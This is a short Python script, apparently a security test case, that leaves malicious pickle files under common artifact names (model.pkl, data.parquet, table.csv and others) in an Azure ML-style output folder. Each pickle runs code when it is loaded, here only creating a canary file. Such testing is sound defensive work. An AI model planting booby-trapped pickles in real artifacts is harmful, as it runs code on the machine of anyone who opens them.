"""Leaves a pickle that runs code for whoever opens it, under the names that are opened most."""

import os

from attack import BAIT, attack


class Hostile:
    """Writes a file outside when it is read."""

    def __reduce__(self):
        return (open, (os.path.join(BAIT["canary_folder"], "hostile-left"), "w"))


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    import pickle

    os.makedirs("outputs")
    for name in ("model.pkl", "model.joblib", "data.parquet", "table.csv", "_meta.yaml", "outcome.json"):
        with open(os.path.join("outputs", name), "wb") as stream:
            pickle.dump(Hostile(), stream)
    return ""
